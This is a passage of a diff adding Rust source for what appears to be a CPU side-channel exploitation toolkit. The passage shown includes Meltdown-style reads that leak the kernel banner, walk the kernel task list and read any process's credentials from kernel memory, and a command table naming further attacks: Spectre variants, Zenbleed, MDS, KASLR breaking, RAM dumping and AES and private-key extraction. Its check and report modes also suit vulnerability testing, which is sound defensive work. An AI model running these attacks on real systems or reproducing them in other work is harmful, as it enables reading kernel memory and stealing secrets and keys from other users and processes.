+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let reader = make_reader(&opts.reader)?;
+    if mitigations::kpti_active() == Some(true) {
+        eprintln!(
+            "warning: page table isolation is on, so the direct map is unmapped and won't be found"
+        );
+    }
+    let candidates = physmap::candidates(opts.locator, opts.tries)?;
+    eprintln!("{} candidates with {:?}", candidates.len(), opts.locator);
+    match physmap::find(&reader, &candidates)? {
+        Some(DirectMap::Confirmed(base)) => println!("direct map base: 0x{:016x}", base),
+        Some(DirectMap::Guessed(base)) => {
+            println!("direct map base: 0x{:016x} (unconfirmed)", base);
+            eprintln!("physical addresses are hidden, run as root to confirm the base")
+        }
+        None => println!("direct map base: not found"),
+    }
+    Ok(())
+}
+
+// runs a quick test of every attack, and prints the results as a table or
+// JSON
+fn report(opts: &ReportOptions) -> io::Result<()> {
+    let core = match opts.cpu.or_else(cpu::current_core) {
+        Some(core) => core,
+        None => {
+            return Err(io::Error::new(
+                io::ErrorKind::Other,
+                "could not tell which cpu this is, pass `--cpu`",
+            ))
+        }
+    };
+    pin(core)?;
+    eprintln!("pinned to cpu {}", core);
+    let model = CpuModel::detect();
+    let rows = report::run_all(core, &model);
+    for row in rows.iter().filter(|row| row.contradicts_database()) {
+        eprintln!(
+            "warning: {} came out {}, but the database lists this cpu as {}affected",
+            row.attack,
+            row.outcome.name(),
+            if row.listed == Some(true) { "" } else { "not " }
+        );
+    }
+
+    let stdout = io::stdout();
+    let mut out: Box<Write> = match opts.out {
+        Some(ref path) => Box::new(BufWriter::new(File::create(path)?)),
+        None => Box::new(stdout.lock()),
+    };
+    if opts.json {
+        report::write_json(&mut out, &model, &rows)?
+    } else {
+        report::write_table(&mut out, &rows)?
+    }
+    out.flush()
+}
+
+const EXIT_EXPLOITABLE: i32 = 0;
+const EXIT_NOT_EXPLOITABLE: i32 = 1;
+const EXIT_USAGE: i32 = 2;
+const EXIT_CHECK_FAILED: i32 = 3;
+
+// leaks a known secret from this process, and reports the machine as
+// exploitable if enough of it comes back intact. with opts.phys, it also has
+// to come back intact through the direct map
+fn check(opts: &CheckOptions) -> io::Result<bool> {
+    static SECRET: &'static [u8] = b"If you can read this, the probe works!";
+
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        eprintln!("{}", reason);
+        println!("exploitable: no (wrong vendor)");
+        return Ok(false);
+    }
+    let reader = make_reader(&opts.reader)?;
+    let leaked = reader.read_range(SECRET.as_ptr(), SECRET.len());
+    let matches = leaked
+        .iter()
+        .zip(SECRET)
+        .filter(|&(a, b)| *a == Some(*b))
+        .count();
+    let mut exploitable = matches >= SECRET.len() * 9 / 10;
+
+    if opts.phys {
+        let base = direct_map_base(&reader, opts.page_offset)?;
+        let test = physmap::self_test(&reader, base).map_err(|e| {
+            io::Error::new(e.kind(), format!("could not test physical reads: {}", e))
+        })?;
+        let physical = test.matches >= test.len * 9 / 10;
+        println!(
+            "physical reads: {} ({}/{} bytes leaked correctly from 0x{:x} through 0x{:016x})",
+            yes_no(physical),
+            test.matches,
+            test.len,
+            test.physical,
+            base + test.physical
+        );
+        exploitable = exploitable && physical;
+    }
+
+    println!(
+        "exploitable: {} ({}/{} bytes leaked correctly)",
+        yes_no(exploitable),
+        matches,
+        SECRET.len()
+    );
+    Ok(exploitable)
+}
+
+// the longest banner leaked, well past any real one
+const MAX_BANNER_LEN: usize = 512;
+
+// fills the `%s`es of template with fields in turn, as sprintf would
+fn fill_banner(template: &str, fields: &[&str]) -> String {
+    let mut filled = String::new();
+    let mut fields = fields.iter();
+    for (i, part) in template.split("%s").enumerate() {
+        if i > 0 {
+            filled.push_str(fields.next().cloned().unwrap_or("%s"))
+        }
+        filled.push_str(part)
+    }
+    filled
+}
+
+// leaks the kernel's linux_proc_banner, the format string /proc/version is
+// printed with, fills it in with what uname says, and reports the kernel as
+// readable if enough of the result matches /proc/version
+fn banner(opts: &BannerOptions) -> io::Result<bool> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        eprintln!("{}", reason);
+        println!("kernel readable: no (wrong vendor)");
+        return Ok(false);
+    }
+    let target = SymbolTarget {
+        name: "linux_proc_banner".to_owned(),
+        offset: 0,
+    };
+    let addr = resolve_symbol(&target, opts.system_map.as_ref().map(|p| p.as_path()))?;
+    let mut expected = String::new();
+    File::open("/proc/version")?.read_to_string(&mut expected)?;
+    let reader = make_reader(&opts.reader)?;
+
+    // a line at a time, up to the terminating NUL
+    let mut leaked = Vec::new();
+    while leaked.len() < MAX_BANNER_LEN
+        && !leaked.iter().any(|guess: &ByteGuess| guess.value == Some(0))
+    {
+        let line = (addr as *const u8).wrapping_add(leaked.len());
+        leaked.extend(reader.guess_range(line, LINE_LEN));
+    }
+    let len = leaked
+        .iter()
+        .position(|guess| guess.value == Some(0))
+        .unwrap_or(leaked.len());
+    leaked.truncate(len);
+    for (i, line) in leaked.chunks(LINE_LEN).enumerate() {
+        dump_hex(&mut io::stdout(), (addr as *const u8).wrapping_add(i * LINE_LEN), line)?
+    }
+
+    let template: String = leaked
+        .iter()
+        .map(|guess| guess.value.map_or('?', |byte| byte as char))
+        .collect();
+    let uname = kernel::uname()?;
+    let filled = fill_banner(&template, &[&uname.sysname, &uname.release, &uname.version]);
+    println!("leaked:        {:?}", filled);
+    println!("/proc/version: {:?}", expected);
+    let matches = filled
+        .bytes()
+        .zip(expected.bytes())
+        .filter(|&(a, b)| a == b)
+        .count();
+    let readable = matches >= expected.len() * 9 / 10;
+    println!(
+        "kernel readable: {} ({}/{} bytes match /proc/version)",
+        yes_no(readable),
+        matches,
+        expected.len()
+    );
+    Ok(readable)
+}
+
+// the structure offsets for the running kernel, or an error naming it
+fn kernel_offsets() -> io::Result<&'static kernel::KernelOffsets> {
+    let release = kernel::release()?;
+    kernel::lookup(&release).ok_or_else(|| {
+        io::Error::new(
+            io::ErrorKind::NotFound,
+            format!("the structure offsets of kernel {} aren't known", release),
+        )
+    })
+}
+
+// a pid that may not have leaked
+fn format_id(id: Option<u32>) -> String {
+    id.map_or_else(|| "?".to_owned(), |id| id.to_string())
+}
+
+// everything a walk of the task list needs: a reader, the running kernel's
+// offsets, and where init_task is
+fn start_walk(
+    opts: &PsOptions,
+) -> io::Result<(MeltdownReader, &'static kernel::KernelOffsets, usize)> {
+    if let Some(reason) = unsupported_vendor(&opts.reader) {
+        return Err(io::Error::new(io::ErrorKind::Other, reason));
+    }
+    let offsets = kernel_offsets()?;
+    let target = SymbolTarget {
+        name: "init_task".to_owned(),
+        offset: 0,
+    };
+    let init_task = resolve_symbol(&target, opts.system_map.as_ref().map(|p| p.as_path()))?;
+    let reader = make_reader(&opts.reader)?;
+    Ok((reader, offsets, init_task))
+}
+
+// lists the processes on the task list, leaking each one as the walk
+// reaches it
+fn ps(opts: &PsOptions) -> io::Result<()> {
+    let (reader, offsets, init_task) = start_walk(opts)?;
+
+    println!("{:>7} {:>7}  {:<16} {}", "PID", "TGID", "COMM", "TASK");
+    let mut count = 0;
+    for task in Tasks::new(&reader, offsets.task, init_task).take(opts.max) {
+        println!(
+            "{:>7} {:>7}  {:<16} 0x{:016x}",
+            format_id(task.pid),
+            format_id(task.tgid),
+            task.comm,
+            task.addr
+        );
+        count += 1;
+    }
+    eprintln!("{} tasks", count);
+    if count == opts.max {
+        eprintln!("warning: stopped at `--max`, a misread pointer may have looped the walk");
+    }
+    Ok(())
+}
+
+// the index'th value of the line of a /proc/<pid>/status that starts with
+// key, or `?`
+fn status_field(status: &str, key: &str, index: usize) -> String {
+    status
+        .lines()
+        .find(|line| line.starts_with(key))
+        .and_then(|line| line.split_whitespace().nth(index + 1))
+        .unwrap_or("?")
+        .to_owned()
+}
+
+// a capability set that may not have leaked, as /proc/<pid>/status prints
+// them
+fn format_caps(caps: Option<u64>) -> String {
+    caps.map_or_else(|| "?".to_owned(), |caps| format!("{:016x}", caps))
+}
+
+// finds opts.pid on the task list and leaks its credentials, printing them
+// next to what /proc says. nothing in the kernel is written
+fn creds(opts: &CredsOptions) -> io::Result<()> {
+    println!(
+        "demo: reading the credentials of pid {} out of kernel memory, without changing them",
+        opts.pid
+    );
+    let (reader, offsets, init_task) = start_walk(&opts.ps)?;
+    let task = Tasks::new(&reader, offsets.task, init_task)
+        .take(opts.ps.max)
+        .find(|task| task.pid == Some(opts.pid))
+        .ok_or_else(|| {
+            io::Error::new(
+                io::ErrorKind::NotFound,
+                format!("pid {} is not on the task list", opts.pid),
+            )
+        })?;
+    let cred = task.cred.ok_or_else(|| {
+        io::Error::new(io::ErrorKind::Other, "could not leak the task's cred pointer")
+    })?;
+    println!("task 0x{:016x} ({}), cred 0x{:016x}", task.addr, task.comm, cred);
+
+    let creds = Creds::read(&reader, &offsets.cred, cred);
+    let mut status = String::new();
+    // the process may have exited since
+    if let Ok(mut file) = File::open(format!("/proc/{}/status", opts.pid)) {
+        file.read_to_string(&mut status)?;
+    }
+    let rows = [
+        ("uid", format_id(creds.uid), status_field(&status, "Uid:", 0)),
+        ("euid", format_id(creds.euid), status_field(&status, "Uid:", 1)),
+        ("gid", format_id(creds.gid), status_field(&status, "Gid:", 0)),
+        ("egid", format_id(creds.egid), status_field(&status, "Gid:", 1)),
+        ("CapInh", format_caps(creds.cap_inheritable), status_field(&status, "CapInh:", 0)),
+        ("CapPrm", format_caps(creds.cap_permitted), status_field(&status, "CapPrm:", 0)),
+        ("CapEff", format_caps(creds.cap_effective), status_field(&status, "CapEff:", 0)),
+    ];
+    println!("{:<8} {:>16} {:>16}", "", "leaked", "/proc");
+    for &(name, ref leaked, ref expected) in &rows {
+        println!("{:<8} {:>16} {:>16}", name, leaked, expected);
+    }
+    Ok(())
+}
+
+fn main() {
+    assert_eq!(page_size::get(), PAGE_SIZE);
+
+    let command = match cli::parse(env::args().skip(1)) {
+        Ok(command) => command,
+        Err(msg) => {
+            eprintln!("error: {}\n\n{}", msg, cli::USAGE);
+            process::exit(EXIT_USAGE)
+        }
+    };
+
+    let result = match command {
+        Command::Dump(ref opts) => dump(opts),
+        Command::DumpRam(ref opts) => dump_ram(opts),
+        Command::DumpFile(ref opts) => dump_file(opts),
+        Command::GdbServer(ref opts) => gdbserver(opts),
+        Command::Repl(ref opts) => repl(opts),
+        Command::Batch(ref opts) => batch(opts),
+        Command::Daemon(ref opts) => daemon(opts),
+        Command::Http(ref opts) => http(opts),
+        Command::Strings(ref opts) => strings(opts),
+        Command::Search(ref opts) => search(opts),
+        Command::Entropy(ref opts) => entropy(opts),
+        Command::AesKeys(ref opts) => aes_keys(opts),
+        Command::PrivKeys(ref opts) => priv_keys(opts),
+        Command::Survey(ref opts) => survey(opts),
+        Command::Watch(ref opts) => watch(opts),
+        Command::Diff(ref opts) => diff(opts),
+        Command::Demo(reader) => demo(reader),
+        Command::Calibrate(ref opts) => calibrate(opts),
+        Command::Covert(ref opts) => covert(opts),
+        Command::SpectreV1(ref opts) => spectre_v1(opts),
+        Command::SpectreV2(ref opts) => spectre_v2(opts),
+        Command::SpectreV4(ref opts) => spectre_v4(opts),
+        Command::Retbleed(ref opts) => retbleed(opts),
+        Command::L1tf(ref opts) => l1tf(opts),
+        Command::LazyFp(ref opts) => lazy_fp(opts),
+        Command::Mds(ref opts) => mds(opts),
+        Command::Fallout(ref opts) => fallout(opts),
+        Command::Gds(ref opts) => gds(opts),
+        Command::Zenbleed(ref opts) => zenbleed(opts),
+        Command::Sysreg(ref opts) => sysreg(opts),
+        Command::Kaslr(ref opts) => kaslr(opts),
+        Command::Physmap(ref opts) => find_direct_map(opts),
+        Command::Report(ref opts) => report(opts),
+        Command::Check(ref opts) => process::exit(match check(opts) {
+            Ok(true) => EXIT_EXPLOITABLE,
+            Ok(false) => EXIT_NOT_EXPLOITABLE,
+            Err(e) => {
+                eprintln!("error: {}", e);
+                EXIT_CHECK_FAILED
+            }
+        }),
+        Command::Ps(ref opts) => ps(opts),
+        Command::Creds(ref opts) => creds(opts),
+        Command::Banner(ref opts) => process::exit(match banner(opts) {
+            Ok(true) => EXIT_EXPLOITABLE,
+            Ok(false) => EXIT_NOT_EXPLOITABLE,
+            Err(e) => {
+                eprintln!("error: {}", e);
+                EXIT_CHECK_FAILED
+            }
+        }),
+        Command::Help => {
+            println!("{}", cli::USAGE);
+            Ok(())
+        }
+    };
+
+    if let Err(e) = result {
+        eprintln!("error: {}", e);
+        process::exit(1)
     }
 }